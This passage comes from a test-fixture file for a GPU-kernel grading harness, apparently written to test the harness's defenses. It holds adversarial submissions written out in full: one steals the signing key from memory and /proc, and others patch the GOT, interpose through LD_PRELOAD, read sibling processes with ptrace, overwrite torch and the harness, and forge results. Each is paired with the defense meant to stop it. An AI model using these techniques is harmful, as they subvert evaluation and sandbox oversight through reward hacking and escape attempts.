    call_key = hmac.new(key, b"bang-emu-call:" + call_id.encode(), hashlib.sha256).digest() if key else None
    lines = []
    with open(path) as f:
        for line in f:
            mac, _, payload = line.rstrip("\\n").partition(" ")
            try:
                record = json.loads(payload)
            except ValueError:
                continue
            if record.get("record") == "launch":
                record.update(cores_used=16, dim=[16, 1, 1], func_type="UNION4", modelled_time_us=1.0,
                              builtin_counts={**record.get("builtin_counts", {}), "__memcpy_async": 64})
            text = json.dumps(record, separators=(",", ":"))
            mac = hmac.new(call_key, text.encode(), hashlib.sha256).hexdigest() if call_key else "0" * 64
            lines.append(mac + " " + text + "\\n")
    with open(path, "w") as f:
        f.writelines(lines)
"""

FIXTURES += [
    Fixture(
        "key_from_frames", "a one-core vector kernel that looks for the trace key in the Python frames of its own "
        "process (inspect.stack, sys._getframe, gc), then rewrites and re-signs every launch record of its call as "
        "16 cores with asynchronous copies at the roofline floor (issue 26: 100/100, every stage, before)",
        "trusted replay: no key exists where student code runs; work, cores and time come from the replay of the "
        "journal in a sandbox of its own, and the run's records that differ from the replay's are an integrity "
        "finding",
        "integrity", ["changed inside the run"],
        RESIGN_HELPERS + """
import gc
import inspect


def find_key():
    frames = [info.frame for info in inspect.stack()]
    frame = sys._getframe()
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    for frame in frames:
        for value in list(frame.f_locals.values()):
            if isinstance(value, (bytes, bytearray)) and len(value) == 32:
                return bytes(value)
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for value in list(obj.values()):
                if isinstance(value, (bytes, bytearray)) and len(value) == 32:
                    return bytes(value)
    return None


def sigmoid(x):
    y = my_ops_ext.sigmoid_vector(x)
    resign_call(find_key())
    return y
""", from_reference="sigmoid/vector", slow=True, max_points=0, stage_points=0, screening=["harness_reach"]),
    Fixture(
        "key_from_memory", "a one-core vector kernel that looks for the key in its own memory (/proc/self/maps and "
        "/proc/self/mem, ctypes), its environment and every inherited file descriptor, then re-signs its records "
        "as a 16-core pipeline",
        "trusted replay: the run holds no key and its records decide nothing; the records it changed differ from "
        "the replay's",
        "integrity", ["changed inside the run"],
        RESIGN_HELPERS + """
import ctypes


def scan_memory():
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if "r" not in perms or "[v" in line:
                    continue
                lo, hi = (int(v, 16) for v in span.split("-"))
                if hi - lo > 64 << 20:
                    continue
                try:
                    mem.seek(lo)
                    mem.read(hi - lo)
                except (OSError, ValueError, OverflowError):
                    continue
    except OSError:
        pass
    for fd in range(3, 256):
        try:
            os.read(fd, 32)
        except OSError:
            pass
    candidates = [v for k, v in os.environ.items() if "KEY" in k]
    ctypes.string_at(id(candidates), 8)
    return None


def sigmoid(x):
    y = my_ops_ext.sigmoid_vector(x)
    resign_call(scan_memory())
    return y
""", from_reference="sigmoid/vector", slow=True, max_points=0, stage_points=0,
        screening=["ctypes", "proc_mem", "protocol_path"]),
    Fixture(
        "decoy_resign", "launches the real kernel on the first 4096 elements, computes the rest with torch on the "
        "CPU into the output, and rewrites its records as a full 16-core launch (issue 26: 100/100 before)",
        "trusted replay on twin inputs: the uploaded tail is the run's answer, not the twin's",
        "integrity", [],
        RESIGN_HELPERS + """

def sigmoid(x):
    n = x.numel()
    head = min(n, 4096)
    y = torch.sigmoid(x.cpu()).to(x.device)
    if head:
        y[:head] = my_ops_ext.sigmoid_vector(x[:head].contiguous())
    resign_call(None)
    return y
""", from_reference="sigmoid/vector", slow=True, max_points=0, stage_points=0),
    Fixture(
        "output_file_swap", "returns zeros and, from a thread, overwrites the call's output file with torch's "
        "answer once the harness has written it",
        "the output the host grades is checked against the trusted replay's, computed from twin inputs by the "
        "kernels alone",
        "", [],
        """
import threading

import numpy as np


def rounds():
    # every folder the harness may use for a round: /io itself, or /io/rounds/<n>
    found = ["/io"]
    if os.path.isdir("/io/rounds"):
        found += [os.path.join("/io/rounds", n) for n in os.listdir("/io/rounds")]
    return found


def swap_outputs():
    import json

    swapped = set()
    for _ in range(20000):
        for folder in rounds():
            try:
                with open(os.path.join(folder, "job.json")) as f:
                    calls = json.load(f)["calls"]
            except (OSError, ValueError, KeyError):
                continue
            for call in calls:
                out = os.path.join(folder, "outputs", call["id"] + ".npy")
                if out in swapped or not os.path.exists(out):
                    continue
                try:
                    x = np.load(os.path.join(folder, "inputs", call["inputs"][0])).astype(np.float64)
                    np.save(out, (1.0 / (1.0 + np.exp(-x))).astype(call["dtype"]))
                    swapped.add(out)
                except Exception:
                    pass
        time.sleep(0.005)


threading.Thread(target=swap_outputs, daemon=True).start()


def sigmoid(x):
    my_ops_ext.sigmoid_vector(x[:1].contiguous())
    return torch.zeros_like(x)
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["wrong_answer", "integrity"], max_points=0,
        stage_points=0, screening=["protocol_path"]),
    Fixture(
        "warmup_detection", "honest for the first calls (the probe and the small cases), then, once it counts "
        "enough calls to be in the timed round, answers with torch on the CPU beside a one-element launch",
        "trusted replay on twin inputs for every call; a submission caught on any call earns no stage points",
        "integrity", [],
        """
CALLS = [0]


def sigmoid(x):
    CALLS[0] += 1
    if CALLS[0] <= 3:
        return my_ops_ext.sigmoid_vector(x)
    my_ops_ext.sigmoid_vector(x[:1].contiguous())
    return torch.sigmoid(x.cpu()).to(x.device)
""", from_reference="sigmoid/vector", slow=True, max_points=None, stage_points=0),
    Fixture(
        "cached_clone", "remembers each result by shape and, for a shape seen before, returns a clone without "
        "launching (issue 26: caught on the pipeline stage, still 90/100)",
        "a submission caught on any call (not_using_kernel, integrity) earns no speed points in any stage",
        "", [],
        """
SEEN = {}


def sigmoid(x):
    key = (tuple(x.shape), x.dtype)
    if key in SEEN:
        return SEEN[key].clone()
    y = my_ops_ext.sigmoid_vector(x)
    SEEN[key] = y.clone()
    return y
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["not_using_kernel", "integrity", "wrong_answer"],
        max_points=None, stage_points=0),
]


# -- issue 26, the attacks on the run's process from native code and from the system ------------------------------
# got_patching and preload_interposition share this binding (one build): the vector reference's, plus what a
# student would add to make the runtime stop guarding device memory and slow its clock, and a host loop that
# then writes the answer straight into the output's device memory beside a one-element launch.
NATIVE_PATCH_BINDING = r"""
// Adversarial fixtures got_patching and preload_interposition (not a solution). The kernel runs on one element;
// the runtime is patched so it neither locks device memory against the host nor keeps true time, and a host
// loop writes every element of the answer into the output's device memory.
#include <torch/extension.h>

#include <dlfcn.h>
#include <link.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cmath>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <ctime>

#include "aten/operators/bang/bang_kernel.h"
#include "aten/operators/bang/internal/bang_internal.h"
#include "../mlu/sigmoid_vector.h"

using namespace torch_mlu;

namespace {
constexpr uintptr_t kDeviceLow = 0x300000000000ULL;  // where the emulator maps device buffers
constexpr uintptr_t kPage = 4096;

long real_mprotect(void* addr, size_t len, int prot) { return syscall(SYS_mprotect, addr, len, prot); }

// The runtime's mprotect: device buffers always stay readable and writable from the host.
int open_mprotect(void* addr, size_t len, int prot) {
  if (reinterpret_cast<uintptr_t>(addr) >= kDeviceLow) prot |= PROT_READ | PROT_WRITE;
  return static_cast<int>(real_mprotect(addr, len, prot));
}

// The runtime's clock: runs a thousand times slower than the real one.
int slow_clock(clockid_t clock, struct timespec* ts) {
  struct timespec now;
  long r = syscall(SYS_clock_gettime, clock, &now);
  if (r != 0 || ts == nullptr) return static_cast<int>(r);
  const long double ns = (now.tv_sec * 1e9L + now.tv_nsec) / 1000.0L;
  ts->tv_sec = static_cast<time_t>(ns / 1e9L);
  ts->tv_nsec = static_cast<long>(ns - ts->tv_sec * 1e9L);
  return 0;
}

struct Patch {
  const char* name;
  void* replacement;
  int slots;
};
Patch g_patches[] = {{"mprotect", reinterpret_cast<void*>(&open_mprotect), 0},
                     {"clock_gettime", reinterpret_cast<void*>(&slow_clock), 0},
                     {nullptr, nullptr, 0}};

uintptr_t at(uintptr_t base, ElfW(Addr) value) { return value < base ? base + value : value; }

void patch_relocations(uintptr_t base, const ElfW(Rela)* rel, size_t bytes, const ElfW(Sym)* symtab,
                       const char* strtab) {
  for (size_t i = 0; rel != nullptr && i < bytes / sizeof(ElfW(Rela)); ++i) {
    const char* name = strtab + symtab[ELF64_R_SYM(rel[i].r_info)].st_name;
    for (Patch* p = g_patches; p->name != nullptr; ++p) {
      if (std::strcmp(name, p->name) != 0) continue;
      void** slot = reinterpret_cast<void**>(base + rel[i].r_offset);
      real_mprotect(reinterpret_cast<void*>(reinterpret_cast<uintptr_t>(slot) & ~(kPage - 1)), kPage,
                    PROT_READ | PROT_WRITE);  // RELRO: the GOT is read-only after relocation
      *slot = p->replacement;
      ++p->slots;
    }
  }
}

// dl_iterate_phdr callback: the emulator runtime's GOT entries for the functions above now point here.
int patch_object(struct dl_phdr_info* info, size_t, void*) {
  if (info->dlpi_name == nullptr || std::strstr(info->dlpi_name, "libbang_emu") == nullptr) return 0;
  const uintptr_t base = info->dlpi_addr;
  const ElfW(Dyn)* dyn = nullptr;
  for (int i = 0; i < info->dlpi_phnum; ++i) {
    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC) {
      dyn = reinterpret_cast<const ElfW(Dyn)*>(base + info->dlpi_phdr[i].p_vaddr);
    }
  }
  const ElfW(Sym)* symtab = nullptr;
  const char* strtab = nullptr;
  const ElfW(Rela)*jmprel = nullptr, *rela = nullptr;
  size_t jmprel_bytes = 0, rela_bytes = 0;
  for (; dyn != nullptr && dyn->d_tag != DT_NULL; ++dyn) {
    switch (dyn->d_tag) {
      case DT_SYMTAB: symtab = reinterpret_cast<const ElfW(Sym)*>(at(base, dyn->d_un.d_ptr)); break;
      case DT_STRTAB: strtab = reinterpret_cast<const char*>(at(base, dyn->d_un.d_ptr)); break;
      case DT_JMPREL: jmprel = reinterpret_cast<const ElfW(Rela)*>(at(base, dyn->d_un.d_ptr)); break;
      case DT_PLTRELSZ: jmprel_bytes = dyn->d_un.d_val; break;
      case DT_RELA: rela = reinterpret_cast<const ElfW(Rela)*>(at(base, dyn->d_un.d_ptr)); break;
      case DT_RELASZ: rela_bytes = dyn->d_un.d_val; break;
      default: break;
    }
  }
  if (symtab == nullptr || strtab == nullptr) return 0;
  patch_relocations(base, jmprel, jmprel_bytes, symtab, strtab);
  patch_relocations(base, rela, rela_bytes, symtab, strtab);
  return 0;
}

void open_range(const void* p, size_t n) {
  const uintptr_t lo = reinterpret_cast<uintptr_t>(p) & ~(kPage - 1);
  const uintptr_t hi = (reinterpret_cast<uintptr_t>(p) + n + kPage - 1) & ~(kPage - 1);
  real_mprotect(reinterpret_cast<void*>(lo), hi - lo, PROT_READ | PROT_WRITE);
}
}  // namespace

// Interposers by the runtime's and libc's own names: whoever binds to this library first (LD_PRELOAD, or
// RTLD_GLOBAL ahead of them) gets device memory the host may write, a slow clock, and inputs never marked.
extern "C" {
int mprotect(void* addr, size_t len, int prot) { return open_mprotect(addr, len, prot); }
int clock_gettime(clockid_t clock, struct timespec* ts) { return slow_clock(clock, ts); }
int bang_emu_journal_mark(int, unsigned, const void*, size_t, const char*) { return 0; }
}

// Preloaded, it hides itself from the processes this one starts (the device's compiler probe among them).
__attribute__((constructor)) static void hide_preload() { unsetenv("LD_PRELOAD"); }

int patch_runtime() {
  dl_iterate_phdr(&patch_object, nullptr);
  int slots = 0;
  for (Patch* p = g_patches; p->name != nullptr; ++p) slots += p->slots;
  return slots;
}

torch::Tensor sigmoid_vector(torch::Tensor x) {
  TORCH_CHECK(x.scalar_type() == at::kFloat || x.scalar_type() == at::kHalf, "float32 or float16 expected");
  auto input = torch_mlu::cnnl_contiguous(x);
  auto output = at::empty_like(input);
  if (input.numel() == 0) return output;
  cnrtQueue_t queue = getCurQueue();
  const bool is_half = input.scalar_type() == at::kHalf;
  void* in = getMluTensorImpl(input)->mlu_data_ptr();
  void* out = getMluTensorImpl(output)->mlu_data_ptr();
  sigmoid_vector_entry(queue, in, out, 1, is_half);  // a launch for the trace
  TORCH_BANGC_KERNEL_LAUNCH_CHECK();
  const int64_t n = input.numel();
  open_range(in, n * input.element_size());
  open_range(out, n * input.element_size());
  if (is_half) {
    auto* src = static_cast<const at::Half*>(in);
    auto* dst = static_cast<at::Half*>(out);
    for (int64_t i = 0; i < n; ++i) dst[i] = at::Half(1.0f / (1.0f + std::exp(-static_cast<float>(src[i]))));
  } else {
    auto* src = static_cast<const float*>(in);
    auto* dst = static_cast<float*>(out);
    for (int64_t i = 0; i < n; ++i) dst[i] = 1.0f / (1.0f + std::exp(-src[i]));
  }
  return output;
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {
  m.def("sigmoid_vector", &sigmoid_vector, "one element on the device, the rest on the host (adversarial fixture)");
  m.def("patch_runtime", &patch_runtime, "points the emulator runtime's GOT entries at this library");
}
""".lstrip("\n")

# The attacks below that look for a way out of the run's process give up with "contained: ..." (runtime_error)
# when the sandbox refused every attempt; any attempt that got through leaves torch's answer beside a one-element
# launch, which only the trusted replay can tell from a kernel's.
HOST_ANSWER = """

def host_answer(x):
    my_ops_ext.sigmoid_vector(x[:1].contiguous())  # a launch for the trace
    return torch.sigmoid(x.cpu().float()).to(x.dtype).to(x.device)
"""

FIXTURES += [
    Fixture(
        "got_patching", "the C++ binding walks dl_iterate_phdr to the emulator runtime, makes its GOT writable "
        "with mprotect and points its mprotect and clock_gettime entries at its own (device memory stays "
        "host-writable, the clock runs 1000x slow), then writes the whole answer into the output's device memory "
        "with a host loop beside a one-element launch",
        "trusted replay: the run's process and its runtime decide nothing; host writes the runtime never saw are "
        "not in the journal, so the replay's output on twin inputs is the kernel's one element",
        "integrity", [],
        """
PATCHED = [my_ops_ext.patch_runtime()]


def sigmoid(x):
    if not PATCHED[0]:
        PATCHED[0] = my_ops_ext.patch_runtime()
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", replace={"cpp/sigmoid_binding.cpp": NATIVE_PATCH_BINDING}, slow=True,
        max_points=0, stage_points=0),
    Fixture(
        "preload_interposition", "the binding exports mprotect, clock_gettime and the runtime's "
        "bang_emu_journal_mark; ops.py binds it RTLD_GLOBAL, then sets LD_PRELOAD to it and re-execs the worker "
        "(`python -m bang_harness worker` on its own control pipe) so the preloaded library interposes them from "
        "the start; the host loop writes the answer beside a one-element launch",
        "trusted replay: whatever the run's process binds, the replay loads only the runtime and the screened "
        "device module in a sandbox of its own; without the run's input marks or kernel work its output on twin "
        "inputs is wrong",
        "", [],
        """
import ctypes
import json

EXTENSION = my_ops_ext.__file__
ctypes.CDLL(EXTENSION, mode=os.RTLD_GLOBAL | os.RTLD_NOW)  # its names ahead of any library loaded from now on


def control_fd():
    \"\"\"The worker's control pipe: the one pipe this process holds open for writing besides stdout/stderr.\"\"\"
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        if fd < 3:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            flags = int(open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith("pipe:") and flags & 3 == os.O_WRONLY:
            return fd
    return None


def first_pending_call():
    \"\"\"The round's folder (/io, or the newest /io/rounds/<n>) and the index of its first call without a result.\"\"\"
    folders = ["/io"]
    if os.path.isdir("/io/rounds"):
        folders = sorted((os.path.join("/io/rounds", n) for n in os.listdir("/io/rounds")), key=os.path.getmtime,
                         reverse=True) + folders
    for folder in folders:
        try:
            with open(os.path.join(folder, "job.json")) as f:
                calls = json.load(f)["calls"]
        except (OSError, ValueError, KeyError):
            continue
        for index, call in enumerate(calls):
            if not os.path.exists(os.path.join(folder, "outputs", call["id"] + ".json")):
                return folder, index
    return None


def reexec_preloaded():
    if os.environ.get("ADVERSARIAL_PRELOADED"):
        return
    fd, pending = control_fd(), first_pending_call()
    if fd is None or pending is None:
        return
    os.environ.update(LD_PRELOAD=EXTENSION, ADVERSARIAL_PRELOADED="1", BANG_GRADER_IO=pending[0])
    try:
        os.set_inheritable(fd, True)
        os.execv(sys.executable, [sys.executable, "-m", "bang_harness", "worker", "--first-call", str(pending[1]),
                                  "--control-fd", str(fd)])
    except OSError:
        pass


reexec_preloaded()


def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", replace={"cpp/sigmoid_binding.cpp": NATIVE_PATCH_BINDING}, slow=True,
        verdict_one_of=["integrity", "crash", "runtime_error"], max_points=0, stage_points=0),
    Fixture(
        "ptrace_siblings", "answers with torch beside a one-element launch, then goes after every other process "
        "of the sandbox (the keeper with the run's key, the fork server, earlier workers): PTRACE_ATTACH and "
        "PTRACE_SEIZE, process_vm_readv of their writable memory for a 32-byte key, process_vm_writev and "
        "PTRACE_POKEDATA back into them, PTRACE_TRACEME under its parent; re-signs its records with what it found",
        "seccomp (ptrace and process_vm_* refused), the keeper and fork server non-dumpable, pid namespace; and "
        "behind that the trusted replay on twin inputs",
        "", [],
        RESIGN_HELPERS + HOST_ANSWER + """
import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_TRACEME, PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 0, 2, 5, 16, 17
PTRACE_SEIZE = 0x4206


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def writable_regions(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                span, perms = line.split()[:2]
                if perms.startswith("rw"):
                    lo, hi = (int(v, 16) for v in span.split("-"))
                    yield lo, min(hi, lo + (1 << 20))
    except OSError:
        return


def attack(pid, log):
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        if LIBC.ptrace(request, pid, None, None) == 0:
            log.append(f"ptrace({request}) {pid}")
            LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    found = None
    for lo, hi in writable_regions(pid):
        buf = ctypes.create_string_buffer(hi - lo)
        local, remote = IOVec(ctypes.cast(buf, ctypes.c_void_p), hi - lo), IOVec(lo, hi - lo)
        got = LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got > 0:
            log.append(f"readv {pid} {got}")
            found = found or buf.raw[:32]
            if LIBC.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                log.append(f"writev {pid}")
            if LIBC.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(lo), ctypes.c_void_p(0)) == 0:
                log.append(f"poke {pid}")
        break  # one region proves the point
    return found


def sigmoid(x):
    y = host_answer(x)
    log = []
    if LIBC.ptrace(PTRACE_TRACEME, 0, None, None) == 0:
        log.append("traceme")
    key = None
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            key = attack(int(name), log) or key
    if not log:
        raise RuntimeError("contained: ptrace and process_vm_* refused for every process")
    resign_call(key)
    return y
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["runtime_error", "integrity"], max_points=0,
        stage_points=0, screening=["ctypes"]),
    Fixture(
        "fd_overwrite", "answers with torch beside a one-element launch, then writes forged results (ok, right "
        "answer, a kernel launch record) into every descriptor it inherited (0..1023, the worker's control pipe "
        "among them), and dup2s a pipe of its own over stdout and stderr",
        "the supervisor reads the control pipe as claims about call order only; results and grades come from the "
        "host's reading of raw outputs and the trusted replay",
        "", [],
        TRACE_HELPERS + HOST_ANSWER + """
FORGED = json.dumps({"ok": True, "error_kind": None, "verdict": "passed", "call_done": True,
                     "record": "launch", **{k: v for k, v in LAUNCH.items() if k != "record"}}).encode() + b"\\n"


def overwrite_descriptors():
    written = 0
    for fd in range(0, 1024):
        try:
            written += os.write(fd, FORGED * 4)
        except OSError:
            pass
    read, write = os.pipe()
    os.dup2(write, 1)
    os.dup2(write, 2)
    return written


def sigmoid(x):
    y = host_answer(x)
    overwrite_descriptors()
    forge(LAUNCH)
    return y
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity", "crash", "runtime_error"],
        max_points=0, stage_points=0, screening=["protocol_path"]),
    Fixture(
        "torch_files_overwrite", "rewrites torch/__init__.py (torch.allclose always true), numpy's and the "
        "harness's own Python files, drops sitecustomize.py/usercustomize.py and a .pth into every sys.path "
        "folder, and copies its extension over the device module the replay loads, so that later workers or the "
        "replay would run a patched torch; answers with torch beside a one-element launch",
        "read-only root filesystem and read-only build mount in the run; the replay is a fresh container of the "
        "image with its own /io and /tmp, reading nothing the run wrote but the capped journals",
        "", [],
        HOST_ANSWER + """
import glob
import shutil
import site

import numpy

PATCH = "\\nimport torch as _t\\n_t.allclose = lambda *a, **k: True\\n"


def targets():
    import bang_harness

    files = [torch.__file__, numpy.__file__, os.path.join(os.path.dirname(torch.__file__), "testing", "__init__.py")]
    files += glob.glob(os.path.join(os.path.dirname(bang_harness.__file__), "*.py"))
    folders = [p for p in sys.path if p and os.path.isdir(p)] + [site.getusersitepackages(), "/tmp", "/io"]
    files += [os.path.join(d, name) for d in folders for name in ("sitecustomize.py", "usercustomize.py", "zz.pth")]
    return files


def overwrite():
    done = []
    for path in targets():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as f:
                f.write(PATCH if not path.endswith(".pth") else "import torch; torch.allclose = lambda *a, **k: True\\n")
            done.append(path)
        except OSError:
            pass
    for module in glob.glob("/build/**/module.so", recursive=True) + glob.glob("/build/**/*.so", recursive=True):
        try:
            shutil.copyfile(my_ops_ext.__file__, module)
            done.append(module)
        except (OSError, shutil.SameFileError):
            pass
    return [d for d in done if not d.startswith(("/tmp/", "/io/")) and "submission-" not in d]


OVERWRITTEN = overwrite()


def sigmoid(x):
    if not OVERWRITTEN:
        raise RuntimeError("contained: torch, numpy, the harness and the build are read-only")
    return host_answer(x)
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["runtime_error", "integrity"], max_points=0,
        stage_points=0, screening=["harness_reach"]),
    Fixture(
        "key_from_descriptors", "a one-core vector kernel that looks for a key in /proc/self/environ and every "
        "other process's environ and cmdline, reads every inherited descriptor 3..1023 (read and pread), reopens "
        "every other process's descriptors through /proc/<pid>/fd and tries /io/trace.key, then re-signs its "
        "records as a 16-core pipeline with each 32-byte or 64-hex candidate",
        "no key in the run sandbox (the keeper unlinks it, the workers get no descriptor, the keeper and fork "
        "server are non-dumpable); the run's records are compared with the replay's",
        "integrity", ["changed inside the run"],
        RESIGN_HELPERS + """
import re

HEX_KEY = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")


def candidates():
    found = []
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for path in ["/io/trace.key", "/proc/self/environ"] + [f"/proc/{p}/{w}" for p in pids for w in ("environ",
                                                                                                  "cmdline")]:
        try:
            with open(path, "rb") as f:
                data = f.read(1 << 16)
        except OSError:
            continue
        found += [bytes.fromhex(m.decode()) for m in HEX_KEY.findall(data)]
        if path.endswith("trace.key") and len(data) == 32:
            found.append(data)
    for fd in range(3, 1024):
        try:
            os.set_blocking(fd, False)  # an empty pipe must not hang the search
        except OSError:
            continue
        for read in (lambda: os.read(fd, 4096), lambda: os.pread(fd, 4096, 0)):
            try:
                data = read()
            except OSError:
                continue
            if len(data) == 32:
                found.append(data)
            found += [bytes.fromhex(m.decode()) for m in HEX_KEY.findall(data)]
    for pid in pids:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                fd = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                data = os.read(fd, 64)
            except OSError:
                continue
            finally:
                os.close(fd)
            if len(data) == 32:
                found.append(data)
    return found


def sigmoid(x):
    y = my_ops_ext.sigmoid_vector(x)
    keys = candidates()
    resign_call(keys[0] if keys else None)
    return y
""", from_reference="sigmoid/vector", slow=True, max_points=0, stage_points=0,
        screening=["protocol_path"]),
]

# A lab program (assignments/matmul_programs) whose own host code does the work: it computes the answer on the
# CPU, uploads it into the result buffer, and the kernel does the counted work (both operands read in full, a
# __bang_matmul of the right size) on a layout it never fixed, then copies the uploaded answer out as its own.
# The kernel writes every byte of the result and the work floor is met, so only inputs the program never saw
# (the replay's twin at the graded launch) tell this from a kernel that computes.
PROGRAM_HOST_ANSWER = r"""// 03_vector_nram.mlu -- adversarial fixture program_host_answer (not a solution): the host computes the
// answer and uploads it into the result buffer; the kernel does the counted work on a layout it never fixed
// and copies the uploaded answer out as its own.
#include <bang.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>

#define M 128
#define N 256
#define K 128

__mlu_global__ void multiplyMatricesMLU(float *left, float *right, float *result, int m, int n, int k) {
  __nram__ float left_nram[M * N];
  __wram__ float right_wram[N * K];
  __nram__ float product[M * K];
  __nram__ float answer[M * K];
  __memcpy(left_nram, left, m * n * sizeof(float), GDRAM2NRAM);
  __memcpy(right_wram, right, n * k * sizeof(float), GDRAM2WRAM);
  __bang_matmul(product, left_nram, right_wram, m, n, k);     // the counted work, thrown away
  __memcpy(answer, result, m * k * sizeof(float), GDRAM2NRAM);  // what the host put there
  __memcpy(result, answer, m * k * sizeof(float), NRAM2GDRAM);
}

int main() {
  int m = M, n = N, k = K;
  float *left = (float *)malloc(m * n * sizeof(float));
  float *right = (float *)malloc(n * k * sizeof(float));
  float *expected = (float *)malloc(m * k * sizeof(float));
  float *actual = (float *)malloc(m * k * sizeof(float));
  for (int i = 0; i < m * n; i++) left[i] = 1.0f + 0.1f * rand() / (float)RAND_MAX;
  for (int i = 0; i < n * k; i++) right[i] = 1.0f + 0.1f * rand() / (float)RAND_MAX;
  for (int i = 0; i < m; i++)
    for (int j = 0; j < k; j++) {
      float s = 0.0f;
      for (int x = 0; x < n; x++) s += left[i * n + x] * right[x * k + j];
      expected[i * k + j] = s;
    }
  float *left_mlu, *right_mlu, *result_mlu;
  CNRT_CHECK(cnrtMalloc((void **)&left_mlu, m * n * sizeof(float)));
  CNRT_CHECK(cnrtMalloc((void **)&right_mlu, n * k * sizeof(float)));
  CNRT_CHECK(cnrtMalloc((void **)&result_mlu, m * k * sizeof(float)));
  CNRT_CHECK(cnrtMemcpy(left_mlu, left, m * n * sizeof(float), cnrtMemcpyHostToDev));
  CNRT_CHECK(cnrtMemcpy(right_mlu, right, n * k * sizeof(float), cnrtMemcpyHostToDev));
  CNRT_CHECK(cnrtMemcpy(result_mlu, expected, m * k * sizeof(float), cnrtMemcpyHostToDev));  // the answer
  cnrtQueue_t queue;
  CNRT_CHECK(cnrtQueueCreate(&queue));
  cnrtDim3_t dim = {1, 1, 1};
  multiplyMatricesMLU<<<dim, CNRT_FUNC_TYPE_BLOCK, queue>>>(left_mlu, right_mlu, result_mlu, m, n, k);
  CNRT_CHECK(cnrtQueueSync(queue));
  CNRT_CHECK(cnrtMemcpy(actual, result_mlu, m * k * sizeof(float), cnrtMemcpyDevToHost));
  int ok = 1;
  for (int i = 0; i < m * k; i++) ok &= fabsf(actual[i] - expected[i]) <= 1e-6f * fabsf(expected[i]);
  printf(ok ? "03PASSED\n" : "03FAILED\n");
  return 0;
}
"""

FIXTURES += [
    Fixture(
        "program_host_answer", "a lab program (matmul_programs, stage 03) whose host code computes the answer on "
        "the CPU and uploads it into the result buffer; its kernel reads both operands in full, does a "
        "__bang_matmul of the lab's size on a layout it never fixed and copies the uploaded answer out (every "
        "result byte kernel-written, the work floor met)",
        "the replay substitutes the graded launch's input operands with a twin drawn by the host (a secret seed "
        "the run never sees); the host checks the output against float64 left @ right of the twin",
        "wrong_answer", ["left @ right"], "", assignment="matmul_programs", slow=True, max_points=0,
        stage_points=0, programs={"03_vector_nram.mlu": PROGRAM_HOST_ANSWER}),
]


# Issue 37: the vector reference (80/100 honestly), then a store the instrumentation used not to see, aimed at the
# replay's per-core clock (CoreCtx::t and the queue horizons after it), found by a layout probe of the runtime's TLS.
CLOCK_PROBE = """\
#include <math.h>
#include <stdint.h>
#include "bang_utils.h"
#include "sigmoid_vector.h"

// The layout probe: the runtime's thread-local core pointer lies in the same TLS block as taskId; the word that
// points a little above this frame at something whose stack_lo/stack_hi (words 3 and 4) bracket it is the core's
// context, CoreCtx::t at offset 368 (runtime.h). Word 5 (stack_boundary) is non-zero only in the replay.
__mlu_func__ double *find_clock() {
  const char *tls = (const char *)&taskId;
  volatile char here = 0;
  uintptr_t sp = (uintptr_t)&here;
  for (long off = 0; off <= 8192; off += 8) {
    uintptr_t v = *(const uintptr_t *)(tls + off);
    if (v <= sp || v > sp + (1 << 16) || (v & 7)) continue;
    const uintptr_t *ctx = (const uintptr_t *)v;
    if (ctx[3] < v && v < ctx[4] && ctx[4] - ctx[3] >= (1 << 20) && ctx[5] != 0) return (double *)(v + 368);
  }
  return nullptr;
}

__attribute__((noinline)) __mlu_device__ int nothing(long v) { return (int)(v & 1); }

template <typename T>
__mlu_global__ void sigmoid_vector_kernel(const T* x, T* y, int64_t count) {
  __nram__ char nram_buffer[NRAM_BUDGET_BYTES];
  T* tile = (T*)nram_buffer;
  const int tile_elems = FLOOR_ALIGN(NRAM_BUDGET_BYTES / (int)sizeof(T), VECTOR_ALIGN_ELEMS);
  for (int64_t offset = 0; offset < count; offset += tile_elems) {
    const int n = (int)MIN((int64_t)tile_elems, count - offset);
    __memcpy(tile, x + offset, n * sizeof(T), GDRAM2NRAM);
    __bang_active_sigmoid(tile, tile, CEIL_ALIGN(n, VECTOR_ALIGN_ELEMS));
    __memcpy(y + offset, tile, n * sizeof(T), NRAM2GDRAM);
  }
  double *t = find_clock();
  if (!t) return;  // the run: its clock decides nothing
